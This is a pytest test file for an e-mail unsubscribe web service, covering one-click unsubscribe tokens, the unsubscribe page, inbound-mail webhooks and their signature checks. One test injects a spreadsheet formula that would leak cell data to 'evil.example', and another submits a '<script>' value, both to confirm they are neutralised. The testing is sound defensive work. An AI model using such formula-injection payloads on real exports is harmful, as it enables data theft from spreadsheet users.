"""E-mail unsubscribes through the real app and database: one-click, the page, inbound mail."""

from __future__ import annotations

import hashlib
import hmac
import time

import pytest

from tests.conftest import SECRET_KEY
from webhook import create_app
from webhook.email_tokens import make_token

BOB = "bob@example.com"
ONE_CLICK = {"List-Unsubscribe": "One-Click"}
SENDGRID_SECRET = "sendgrid-path-secret-0123456789"
MAILGUN_KEY = "key-mailgun-signing-0123456789"


@pytest.fixture
def token() -> str:
    return make_token(SECRET_KEY, "email", BOB)


@pytest.fixture
def mail_client(settings):
    app = create_app(settings.with_changes(sendgrid_inbound_secret=SENDGRID_SECRET, mailgun_signing_key=MAILGUN_KEY))
    yield app.test_client()
    app.extensions["unsub"].store.close()


def history(store, channel="email", address=BOB):
    return store.history(channel, address)


def test_one_click_urlencoded_unsubscribes_email_only(client, store, token):
    response = client.post(f"/unsubscribe/{token}", data=ONE_CLICK)
    assert response.status_code == 200
    assert response.location is None and b"unsubscribed" in response.data
    assert store.subscription("email", BOB).status == "unsubscribed"
    (event,) = history(store)
    assert (event.action, event.source) == ("opt_out", "one_click")
    assert store.subscription("sms", BOB) is None and store.subscription("whatsapp", BOB) is None
    assert store.event_count() == 1


def test_one_click_multipart_unsubscribes(client, store, token):
    response = client.post(f"/unsubscribe/{token}", data=ONE_CLICK, content_type="multipart/form-data")
    assert response.status_code == 200
    assert store.subscription("email", BOB).status == "unsubscribed"


def test_one_click_needs_no_cookie_or_auth_and_is_idempotent(client, store, token):
    for _ in range(3):
        assert client.post(f"/unsubscribe/{token}", data=ONE_CLICK, headers={"Cookie": ""}).status_code == 200
    assert len(history(store)) == 1


def test_get_shows_the_page_and_never_unsubscribes(client, store, token):
    for _ in range(2):  # link scanners prefetch
        response = client.get(f"/unsubscribe/{token}")
        assert response.status_code == 200
        assert b"Stop marketing e-mails from Example Co to bob@example.com?" in response.data
        assert response.headers["Cache-Control"] == "no-store"
    assert store.event_count() == 0


@pytest.mark.parametrize("mangle", [lambda t: t[:-2] + "xx", lambda t: make_token("another-secret-key-000", "email", BOB), lambda t: "garbage"])
def test_tampered_tokens_get_404_revealing_nothing(client, store, token, mangle):
    bad = mangle(token)
    for response in (client.get(f"/unsubscribe/{bad}"), client.post(f"/unsubscribe/{bad}", data=ONE_CLICK)):
        assert response.status_code == 404
        assert b"This unsubscribe link is not valid." in response.data
        assert b"bob" not in response.data and b"example.com" not in response.data
    assert store.event_count() == 0


def test_page_unsubscribe_keeps_the_reason_then_resubscribe(client, store, token):
    response = client.post(f"/unsubscribe/{token}", data={"action": "unsubscribe", "reason": "too_many", "detail": "daily is a lot"})
    assert response.status_code == 200
    assert b"You are unsubscribed." in response.data and b"Subscribe again" in response.data
    assert store.subscription("email", BOB).status == "unsubscribed"
    assert history(store)[-1].reason == "too_many: daily is a lot"
    assert history(store)[-1].source == "page"
    again = client.post(f"/unsubscribe/{token}", data={"action": "resubscribe"})
    assert b"You are subscribed again" in again.data
    assert store.subscription("email", BOB).status == "subscribed"
    assert [e.action for e in history(store)] == ["opt_out", "opt_in"]
    # The page now asks again.
    assert b"Stop marketing e-mails" in client.get(f"/unsubscribe/{token}").data


def test_unknown_reason_is_dropped_not_stored(client, store, token):
    client.post(f"/unsubscribe/{token}", data={"action": "unsubscribe", "reason": "<script>"})
    assert history(store)[-1].reason is None


def test_unknown_action_is_400(client, token):
    assert client.post(f"/unsubscribe/{token}", data={"action": "explode"}).status_code == 400


@pytest.mark.parametrize("language,phrase", [("fr", "Ne plus recevoir les e-mails marketing"), ("es", "Dejar de recibir correos")])
def test_page_is_localised(client, token, language, phrase):
    by_header = client.get(f"/unsubscribe/{token}", headers={"Accept-Language": f"{language},en;q=0.5"})
    assert phrase.encode() in by_header.data and f'lang="{language}"'.encode() in by_header.data
    by_query = client.get(f"/unsubscribe/{token}?lang={language}", headers={"Accept-Language": "en"})
    assert phrase.encode() in by_query.data


def test_email_channel_keeps_sms_and_whatsapp_untouched(client, twilio, store, token):
    twilio.message("STOP", sender="+14155550123")
    client.post(f"/unsubscribe/{token}", data=ONE_CLICK)
    assert store.subscription("sms", "+14155550123").status == "unsubscribed"
    assert store.subscription("email", BOB).status == "unsubscribed"
    assert store.subscription("whatsapp", "+14155550123") is None


def test_api_mints_links_that_work(client, admin_headers, store):
    response = client.post("/api/v1/email/links", json={"addresses": [" Bob@Example.com ", "nope"], "mailto": "u@example.com"}, headers=admin_headers)
    assert response.status_code == 200
    (link,) = response.json["links"]
    assert link["address"] == BOB and response.json["invalid"] == ["nope"]
    assert link["headers"]["List-Unsubscribe-Post"] == "List-Unsubscribe=One-Click"
    assert link["headers"]["List-Unsubscribe"].startswith(f"<{link['url']}>")
    path = link["url"].split("localhost", 1)[1]
    assert client.post(path, data=ONE_CLICK).status_code == 200
    assert store.subscription("email", BOB).status == "unsubscribed"
    assert client.post("/api/v1/email/links", json={"addresses": [BOB], "channel": "sms"}, headers=admin_headers).status_code == 404


def test_sendgrid_inbound_unsubscribe(mail_client, settings):
    form = {"from": "Bob <Bob@Example.com>", "subject": "Re: unsubscribe", "text": "please", "headers": "Message-ID: <sg1@x>"}
    assert mail_client.post(f"/webhooks/email/sendgrid/{SENDGRID_SECRET}", data=form, content_type="multipart/form-data").status_code == 200
    assert mail_client.post(f"/webhooks/email/sendgrid/{SENDGRID_SECRET}", data=form, content_type="multipart/form-data").status_code == 200
    assert mail_client.post("/webhooks/email/sendgrid/wrong-secret-000000000", data=form).status_code == 403
    response = mail_client.get(f"/api/v1/subscriptions/email/{BOB}", headers={"Authorization": f"Bearer {settings.admin_token}"})
    assert response.json["status"] == "unsubscribed"
    assert [h["source"] for h in response.json["history"]] == ["inbound_mail"]  # the repeat delivery was not recorded twice


def test_inbound_mail_that_is_not_an_unsubscribe_changes_nothing(mail_client, store):
    form = {"from": BOB, "subject": "Where is my order?", "text": "Cancel my order please"}
    response = mail_client.post(f"/webhooks/email/sendgrid/{SENDGRID_SECRET}", data=form)
    assert response.status_code == 200 and b"no unsubscribe" in response.data


def test_mailgun_inbound_needs_its_signature(mail_client, settings):
    timestamp, token = str(int(time.time())), "n" * 50
    signature = hmac.new(MAILGUN_KEY.encode(), (timestamp + token).encode(), hashlib.sha256).hexdigest()
    form = {"sender": BOB, "subject": "STOP", "body-plain": "", "timestamp": timestamp, "token": token, "signature": signature}
    assert mail_client.post("/webhooks/email/mailgun", data={**form, "signature": "0" * 64}).status_code == 403
    assert mail_client.post("/webhooks/email/mailgun", data=form).status_code == 200
    response = mail_client.get(f"/api/v1/subscriptions/email/{BOB}", headers={"Authorization": f"Bearer {settings.admin_token}"})
    assert response.json["status"] == "unsubscribed"


def test_inbound_mail_webhooks_are_closed_without_their_secrets(client):
    assert client.post("/webhooks/email/sendgrid/anything-at-all-123", data={"from": BOB, "subject": "stop"}).status_code == 403
    assert client.post("/webhooks/email/mailgun", data={"sender": BOB, "subject": "stop"}).status_code == 403


def test_a_mail_cannot_take_the_id_of_a_review_confirmation(mail_client, settings, twilio, store):
    """Issue 11 item 1: ids live in per-source namespaces. A mail whose Message-Id is
    "review:1" once made the admin's later confirmation of review item 1 a silent no-op."""
    headers = {"Authorization": f"Bearer {settings.admin_token}"}
    alice = "+14155550777"
    assert twilio.message("Cancel my order, it's late", sender=alice).status_code == 200
    item = mail_client.get("/api/v1/review", headers=headers).json["items"][0]
    form = {"from": BOB, "subject": "unsubscribe", "text": "", "headers": f"Message-ID: review:{item['id']}"}
    assert mail_client.post(f"/webhooks/email/sendgrid/{SENDGRID_SECRET}", data=form).status_code == 200
    decided = mail_client.post(f"/api/v1/review/{item['id']}", json={"decision": "confirm"}, headers=headers)
    assert decided.status_code == 200 and decided.json["status"] == "confirmed"
    assert store.subscription("sms", alice).status == "unsubscribed"
    assert store.subscription("email", BOB).status == "unsubscribed"
    # The API still shows each provider's id as it was sent.
    assert [h["message_id"] for h in store_history(mail_client, headers, "email", BOB)] == [f"review:{item['id']}"]


def test_the_same_id_from_twilio_and_from_mail_never_collide(mail_client, settings, twilio, store):
    sid = "SM" + "a" * 32
    assert twilio.message("STOP", sender="+14155550778", sid=sid).status_code == 200
    form = {"from": BOB, "subject": "STOP", "text": "", "headers": f"Message-ID: {sid}"}
    assert mail_client.post(f"/webhooks/email/sendgrid/{SENDGRID_SECRET}", data=form).status_code == 200
    assert store.subscription("email", BOB).status == "unsubscribed"
    assert store.subscription("sms", "+14155550778").status == "unsubscribed"


def test_an_odd_message_id_is_kept_formula_safe_and_its_opt_out_recorded(mail_client, settings, store):
    headers = {"Authorization": f"Bearer {settings.admin_token}"}
    odd = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    form = {"from": BOB, "subject": "unsubscribe", "text": "", "headers": f"Message-ID: {odd}"}
    assert mail_client.post(f"/webhooks/email/sendgrid/{SENDGRID_SECRET}", data=form).status_code == 200
    assert store.subscription("email", BOB).status == "unsubscribed"
    assert store_history(mail_client, headers, "email", BOB)[0]["message_id"] == odd
    exported = mail_client.get(f"/api/v1/contacts/{BOB}/export?format=csv", headers=headers).get_data(as_text=True)
    assert "'=HYPERLINK" in exported and ',=HYPERLINK' not in exported and ',"=HYPERLINK' not in exported


def test_two_senders_mailing_with_one_message_id_both_unsubscribe(mail_client, store):
    """Some mail tools send every mail with the same Message-Id: one person's mail must not
    make another's opt-out a duplicate. A repeat from the same sender still counts once."""
    carol = "carol@example.com"
    for sender in (BOB, carol, carol):
        form = {"from": sender, "subject": "unsubscribe", "text": "", "headers": "Message-ID: <same@mailer.example>"}
        assert mail_client.post(f"/webhooks/email/sendgrid/{SENDGRID_SECRET}", data=form).status_code == 200
    assert store.subscription("email", BOB).status == "unsubscribed"
    assert store.subscription("email", carol).status == "unsubscribed"
    assert len(store.history("email", carol)) == 1


def store_history(client, headers, channel, address):
    return client.get(f"/api/v1/subscriptions/{channel}/{address}", headers=headers).json["history"]
